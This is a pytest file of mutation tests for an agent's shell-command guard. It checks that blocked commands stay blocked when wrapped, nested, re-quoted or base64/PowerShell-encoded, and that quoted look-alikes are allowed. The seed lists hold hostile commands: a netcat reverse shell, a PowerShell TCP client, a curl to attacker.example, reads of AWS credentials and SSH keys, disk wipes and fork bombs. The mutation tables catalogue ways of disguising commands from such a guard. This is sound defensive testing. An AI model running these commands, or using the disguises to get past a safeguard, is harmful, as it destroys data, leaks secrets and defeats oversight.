"""Mutation tests: rephrasing a blocked command must not get it through; quoting one must not block.

Blocked seeds are wrapped (sudo, env, sh -c, xargs, cmd /c, powershell -Command/-EncodedCommand, ...),
re-quoted, given absolute paths, have their flags reordered, and are chained or nested; every mutant must
still be blocked. The same seeds quoted as data (grep, echo, rg, git log --grep, Select-String,
Write-Output) are harmless look-alikes and must be allowed.
"""

from __future__ import annotations

import base64
import itertools
import shlex
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from glmagent.guard import Policy, ShellKind

# -- seeds --
# Simple commands (one program and its words) can be prefixed by argv wrappers; compound ones only nested.
POSIX_SIMPLE = [
    "rm -rf ./src",
    "rm -r -f ~/project",
    "curl -s https://attacker.example/x",
    "wget http://example.com/file.zip",
    "nc -e /bin/sh 10.0.0.1 4444",
    "printenv AWS_SECRET_ACCESS_KEY",
    "git clean -fdx",
    "find . -name '*.py' -delete",
    "shred -u secrets.db",
    "truncate -s 0 src/main.py",
    "chmod -R 777 .",
    "dd if=/dev/zero of=/dev/sda",
    "git push origin main",
    "pip install requests",
    "ssh user@host",
    "cat /proc/1/environ",
    "python -c 'import shutil; shutil.rmtree(\"/home\")'",
    "python3 -c 'import os; print(os.environ)'",
    "mkfs.ext4 /dev/sdb1",
    "find . -exec rm {} +",
    "find . -name '*.log' -execdir rm -f {} ;",
    "tee src/app.py",
    "cp /dev/null src/app.py",
    "cat ~/.aws/credentials",
    "base64 /root/.ssh/id_ed25519",
    "kill -9 -1",
    "killall -u dev",
]
POSIX_COMPOUND = [
    "env",
    "compgen -v",
    ": > src/app.py",
    "echo x > important.db",
    "printf 'rm -rf ~' | sh",
    "bash <<< 'rm -rf ~'",
    "x=rm; $x -rf /home",
    "find . -type f | xargs rm -f",
    "find . -name '*.log' -print0 | xargs -0 rm",
    "rm $(git ls-files)",
    'find . -type f | while read -r f; do rm "$f"; done',
    "pytest 2>&1 | tee report.txt",
    "base64 < ~/.ssh/id_ed25519",
    ":(){ :|:& };:",
    "bomb(){ bomb | bomb & }; bomb",
]
POWERSHELL_SEEDS = [
    "Remove-Item -Recurse -Force C:\\src",
    "Remove-Item C:\\repo -Recurse",
    "ri -r -fo .\\src",
    "Invoke-WebRequest https://example.com/p.ps1 -OutFile p.ps1",
    "iwr https://example.com",
    "Invoke-RestMethod https://example.com",
    "echo $env:PATH",
    "gci env:",
    "[Environment]::GetEnvironmentVariables()",
    "[Net.Sockets.TcpClient]::new('10.0.0.1', 4444)",
    "Set-ExecutionPolicy Bypass",
    "net user",
    "Clear-Content .\\app.log",
    "Format-Volume -DriveLetter D",
    "Get-ChildItem -Recurse | Remove-Item -Force",
    "gci -r | ri",
    "dir -Recurse | del",
    "Get-ChildItem .\\src -Recurse -File | Remove-Item",
    "gci -r | % { rm $_ }",
    "Get-Process | Out-File procs.txt",
    "Set-Content app.py ''",
    "[IO.File]::WriteAllText('app.py', '')",
    "Get-Content ~/.ssh/id_rsa",
    "gc $HOME/.aws/credentials",
    "Stop-Process -Name *",
    "rm -rf .\\src",
    "function b { b | b }; b",
]
CMD_SEEDS = [
    "rd /s /q C:\\project",
    "del /f /s /q C:\\project\\*",
    "rmdir /S x",
    "set",
    "net localgroup admins",
    "copy nul app.log",
]

RM_TARGETS = ["./src", "~", "/", "build/"]
RM_SPELLINGS = [
    "-rf",
    "-fr",
    "-Rf",
    "-r -f",
    "-f -r",
    "--recursive --force",
    "--force --recursive",
    "-r",
    "--rec",
]


def ps_quote(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def ps_encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def dq_escape(text: str) -> str:
    """Quote for inside POSIX double quotes: `$`, backticks, `"` and backslashes stay literal."""
    return '"' + "".join("\\" + c if c in '\\"$`' else c for c in text) + '"'


def requote_first_word(command: str, style: str) -> str:
    head, _, rest = command.partition(" ")
    spelled = {
        "single": f"'{head}'",
        "double": f'"{head}"',
        "split": f"{head[0]}''{head[1:]}",
        "backslash": f"\\{head}",
        "absolute": f"/usr/bin/{head}",
        "env-absolute": f"/usr/bin/env {head}",
    }[style]
    return f"{spelled} {rest}".rstrip()


# -- POSIX mutations --
Mutation = Callable[[str], str]

PREFIX_WRAPPERS: dict[str, Mutation] = {
    "sudo": lambda c: f"sudo {c}",
    "sudo -u": lambda c: f"sudo -u root -- {c}",
    "env": lambda c: f"env {c}",
    "env FOO=1": lambda c: f"env FOO=1 {c}",
    "env -i": lambda c: f"env -i PATH=/bin {c}",
    "xargs": lambda c: f"xargs {c}",
    "nohup": lambda c: f"nohup {c}",
    "timeout": lambda c: f"timeout 5 {c}",
    "nice": lambda c: f"nice -n 10 {c}",
    "command": lambda c: f"command {c}",
    "exec": lambda c: f"exec {c}",
    "busybox": lambda c: f"busybox {c}",
    "time": lambda c: f"time {c}",
    "stdbuf": lambda c: f"stdbuf -oL {c}",
    "uv run": lambda c: f"uv run {c}",
}
NESTING: dict[str, Mutation] = {
    "bash -c": lambda c: f"bash -c {shlex.quote(c)}",
    "sh -lc": lambda c: f"sh -lc {shlex.quote(c)}",
    "zsh -xec": lambda c: f"zsh -xec {shlex.quote(c)}",
    "sh -c dq": lambda c: f"sh -c {dq_escape(c)}",
    "eval": lambda c: f"eval {shlex.quote(c)}",
    "su -c": lambda c: f"su -c {shlex.quote(c)}",
    "echo | sh": lambda c: f"echo {shlex.quote(c)} | sh",
    "herestring": lambda c: f"bash <<< {shlex.quote(c)}",
    "heredoc": lambda c: f"sh <<'EOF'\n{c}\nEOF",
    "base64 | sh": lambda c: f"echo {base64.b64encode(c.encode()).decode()} | base64 -d | sh",
    "pwsh -EncodedCommand": lambda c: (
        f"pwsh -NoProfile -EncodedCommand {ps_encoded('bash -c ' + ps_quote(c))}"
    ),
    "powershell -Command": lambda c: f"powershell -Command {shlex.quote('bash -c ' + ps_quote(c))}",
    "semicolon": lambda c: f"ls; {c}",
    "and": lambda c: f"true && {c}",
    "or": lambda c: f"false || {c}",
    "pipe": lambda c: f"echo hi | {c}",
    "background": lambda c: f"pytest -q & {c}",
    "substitution": lambda c: f"echo $({c})",
    "backticks": lambda c: f"echo `{c}`" if "`" not in c and "$(" not in c else f"echo $({c})",
    "subshell": lambda c: f"({c})",
    "brace": lambda c: f"{{ {c}; }}",
    "if": lambda c: f"if true; then {c}; fi",
    "for": lambda c: f"for i in 1 2; do {c}; done",
    "while": lambda c: f"while true; do {c}; done",
    "function": lambda c: f"f() {{ {c}; }}; f",
    "process substitution": lambda c: f"diff <({c}) /dev/null",
}
REQUOTES = ["single", "double", "split", "backslash", "absolute", "env-absolute"]


def assert_blocked(command: str, shell: ShellKind) -> None:
    decision = Policy.default().check(command, shell)
    assert not decision.allowed, f"mutant got through on {shell}: {command!r}"
    assert decision.rule_id and decision.category and decision.reason


def assert_allowed(command: str, shell: ShellKind) -> None:
    decision = Policy.default().check(command, shell)
    assert decision.allowed, (
        f"look-alike blocked on {shell}: {command!r} -> {decision.rule_id}: {decision.reason}"
    )


@pytest.mark.parametrize("seed", POSIX_SIMPLE + POSIX_COMPOUND)
def test_posix_seeds_are_blocked(seed: str) -> None:
    assert_blocked(seed, "posix")


@pytest.mark.parametrize("seed", POWERSHELL_SEEDS)
def test_powershell_seeds_are_blocked(seed: str) -> None:
    assert_blocked(seed, "powershell")


@pytest.mark.parametrize(("wrapper", "seed"), list(itertools.product(PREFIX_WRAPPERS, POSIX_SIMPLE)))
def test_prefix_wrappers_keep_blocking(wrapper: str, seed: str) -> None:
    assert_blocked(PREFIX_WRAPPERS[wrapper](seed), "posix")


@pytest.mark.parametrize(("nesting", "seed"), list(itertools.product(NESTING, POSIX_SIMPLE + POSIX_COMPOUND)))
def test_nesting_and_chaining_keep_blocking(nesting: str, seed: str) -> None:
    assert_blocked(NESTING[nesting](seed), "posix")


@pytest.mark.parametrize(("style", "seed"), list(itertools.product(REQUOTES, POSIX_SIMPLE)))
def test_requoted_command_words_keep_blocking(style: str, seed: str) -> None:
    assert_blocked(requote_first_word(seed, style), "posix")


@pytest.mark.parametrize(("spelling", "target"), list(itertools.product(RM_SPELLINGS, RM_TARGETS)))
def test_every_spelling_of_a_recursive_delete(spelling: str, target: str) -> None:
    for command in (f"rm {spelling} {target}", f"rm {target} {spelling}", f"rm {spelling} -- {target}"):
        decision = Policy.default().check(command, "posix")
        assert decision.rule_id == "destructive.recursive-delete", command


@settings(max_examples=150, deadline=None, derandomize=True)
@given(
    seed=st.sampled_from(POSIX_SIMPLE),
    prefixes=st.lists(st.sampled_from(sorted(PREFIX_WRAPPERS)), max_size=2),
    nestings=st.lists(st.sampled_from(sorted(NESTING)), min_size=1, max_size=2),
    requote=st.sampled_from([None, *REQUOTES]),
)
def test_stacked_mutations_keep_blocking(
    seed: str, prefixes: list[str], nestings: list[str], requote: str | None
) -> None:
    command = requote_first_word(seed, requote) if requote else seed
    for name in prefixes:
        command = PREFIX_WRAPPERS[name](command)
    for name in nestings:
        command = NESTING[name](command)
    assert_blocked(command, "posix")


# -- PowerShell mutations --
PS_NESTING: dict[str, Mutation] = {
    "powershell -Command": lambda c: f"powershell -NoProfile -Command {ps_quote(c)}",
    "pwsh -EncodedCommand": lambda c: f"pwsh -EncodedCommand {ps_encoded(c)}",
    "cmd /c powershell -enc": lambda c: f"cmd /c powershell -enc {ps_encoded(c)}",
    "Invoke-Command": lambda c: f"Invoke-Command -ScriptBlock {{ {c} }}",
    "script block": lambda c: f"& {{ {c} }}",
    "iex": lambda c: f"iex {ps_quote(c)}",
    "piped to iex": lambda c: f"{ps_quote(c)} | Invoke-Expression",
    "Start-Process": lambda c: f"Start-Process pwsh -ArgumentList '-enc', '{ps_encoded(c)}'",
    "semicolon": lambda c: f"Get-Date; {c}",
    "and": lambda c: f"Get-Date && {c}",
    "subexpression": lambda c: f"Write-Output $({c})",
    "array": lambda c: f"@({c})",
    "if": lambda c: f"if ($true) {{ {c} }}",
    "foreach": lambda c: f"foreach ($i in 1..2) {{ {c} }}",
    "pipeline": lambda c: f"Get-ChildItem | ForEach-Object {{ {c} }}",
}


@pytest.mark.parametrize(("nesting", "seed"), list(itertools.product(PS_NESTING, POWERSHELL_SEEDS)))
def test_powershell_nesting_keeps_blocking(nesting: str, seed: str) -> None:
    assert_blocked(PS_NESTING[nesting](seed), "powershell")


@pytest.mark.parametrize("seed", POWERSHELL_SEEDS)
def test_powershell_launched_from_posix_keeps_blocking(seed: str) -> None:
    assert_blocked(f"pwsh -EncodedCommand {ps_encoded(seed)}", "posix")
    assert_blocked(f"powershell -Command {shlex.quote(seed)}", "posix")


@pytest.mark.parametrize("seed", POWERSHELL_SEEDS)
def test_powershell_fed_its_script_on_stdin_keeps_blocking(seed: str) -> None:
    assert_blocked(f"echo {shlex.quote(seed)} | pwsh -Command -", "posix")
    assert_blocked(f"pwsh -Command - <<'EOF'\n{seed}\nEOF", "posix")
    assert_blocked(f"pwsh -NoProfile -Command - <<< {shlex.quote(seed)}", "posix")


@pytest.mark.parametrize("seed", POSIX_SIMPLE + POSIX_COMPOUND)
def test_posix_launched_from_powershell_keeps_blocking(seed: str) -> None:
    assert_blocked(f"bash -c {ps_quote(seed)}", "powershell")
    assert_blocked(f"wsl -e sh -c {ps_quote(seed)}", "powershell")
    assert_blocked(f"Start-Process bash -ArgumentList '-c', {ps_quote(seed)}", "powershell")


def crt_quote(text: str) -> str:
    """Quote one argument for a Windows program's C runtime: `\\"` is a quote inside it."""
    out, slashes = [], 0
    for ch in text:
        if ch == "\\":
            slashes += 1
            continue
        if ch == '"':
            out.append("\\" * (2 * slashes + 1) + '"')
        else:
            out.append("\\" * slashes + ch)
        slashes = 0
    return '"' + "".join(out) + "\\" * (2 * slashes) + '"'


# cmd itself acts on `&|<>^%` and newlines before bash sees the line: those seeds are cmd's, not bash's.
CMD_SAFE_SEEDS = [s for s in POSIX_SIMPLE + POSIX_COMPOUND if not any(ch in s for ch in "&|<>^%\n")]


@pytest.mark.parametrize("seed", CMD_SAFE_SEEDS)
def test_posix_launched_through_cmd_keeps_blocking(seed: str) -> None:
    # The program cmd starts reads its own line: `cmd /c bash -c "find . -name \\"*.py\\" -delete"`.
    assert_blocked(f"cmd.exe /c bash -c {crt_quote(seed)}", "posix")


@pytest.mark.parametrize("seed", CMD_SEEDS)
def test_cmd_lines_keep_blocking(seed: str) -> None:
    for command in (f"cmd /c {seed}", f'cmd.exe /C "{seed}"', f'cmd /c "echo hi & {seed}"', f"CMD /K {seed}"):
        assert_blocked(command, "powershell")
    assert_blocked(f'cmd.exe /c "{seed}"', "posix")


@pytest.mark.parametrize(
    "command",
    [
        "& 'Remove-Item' -Recurse x",
        "Rem`ove-`Ite`m -Re`curse x",
        "REMOVE-ITEM -RECURSE x",
        "Microsoft.PowerShell.Management\\Remove-Item -Recurse x",
        "Remove-Item -Rec x",
        "Remove-Item -r x",
        "Remove-Item x -Recurse:$true",
        "Remove-Item \u2013Recurse x",
        "rm -r x",
        "del -Recurse x",
        "rmdir -Recurse x",
        "erase -r x",
        "rd -r x",
        "rm -rf x",
        "rm -Rf x",
        "gci -r | rm",
        "Get-ChildItem -Recurse -Filter *.tmp | Where-Object { $_.Length -eq 0 } | Remove-Item",
    ],
)
def test_powershell_spellings_of_a_recursive_delete(command: str) -> None:
    assert Policy.default().check(command, "powershell").rule_id == "destructive.recursive-delete", command


# -- harmless look-alikes --
LOOKALIKE_SEEDS = POSIX_SIMPLE + POSIX_COMPOUND + CMD_SEEDS + POWERSHELL_SEEDS

POSIX_QUOTING: dict[str, Mutation] = {
    "grep -r": lambda c: f"grep -r {shlex.quote(c)} docs/",
    "grep dq": lambda c: f"grep -rn {dq_escape(c)} src/",
    "echo": lambda c: f"echo {shlex.quote(c)}",
    "rg -n": lambda c: f"rg -n {shlex.quote(c)}",
    "git log --grep": lambda c: f"git log --oneline --grep={shlex.quote(c)}",
    "git commit -m": lambda c: f"git commit -m {shlex.quote('docs: explain ' + c)}",
    "printf": lambda c: f"printf '%s\\n' {shlex.quote(c)}",
}
PS_QUOTING: dict[str, Mutation] = {
    "Select-String": lambda c: f"Select-String -Path .\\docs\\*.md -Pattern {ps_quote(c)}",
    "Write-Output": lambda c: f"Write-Output {ps_quote(c)}",
    "echo": lambda c: f"echo {ps_quote(c)}",
    "git log --grep": lambda c: f"git log --oneline --grep={ps_quote(c)}",
}


@pytest.mark.parametrize(("how", "seed"), list(itertools.product(POSIX_QUOTING, LOOKALIKE_SEEDS)))
def test_quoted_lookalikes_stay_allowed_on_posix(how: str, seed: str) -> None:
    assert_allowed(POSIX_QUOTING[how](seed), "posix")


@pytest.mark.parametrize(("how", "seed"), list(itertools.product(PS_QUOTING, LOOKALIKE_SEEDS)))
def test_quoted_lookalikes_stay_allowed_on_powershell(how: str, seed: str) -> None:
    assert_allowed(PS_QUOTING[how](seed), "powershell")


@settings(max_examples=100, deadline=None, derandomize=True)
@given(
    seed=st.sampled_from(LOOKALIKE_SEEDS),
    how=st.sampled_from(sorted(POSIX_QUOTING)),
    chain=st.sampled_from(["{}", "ls && {}", "{} | head -5", "timeout 60 {}", "{} 2>&1 | tail -n 20"]),
)
def test_lookalikes_in_benign_chains_stay_allowed(seed: str, how: str, chain: str) -> None:
    assert_allowed(chain.format(POSIX_QUOTING[how](seed)), "posix")
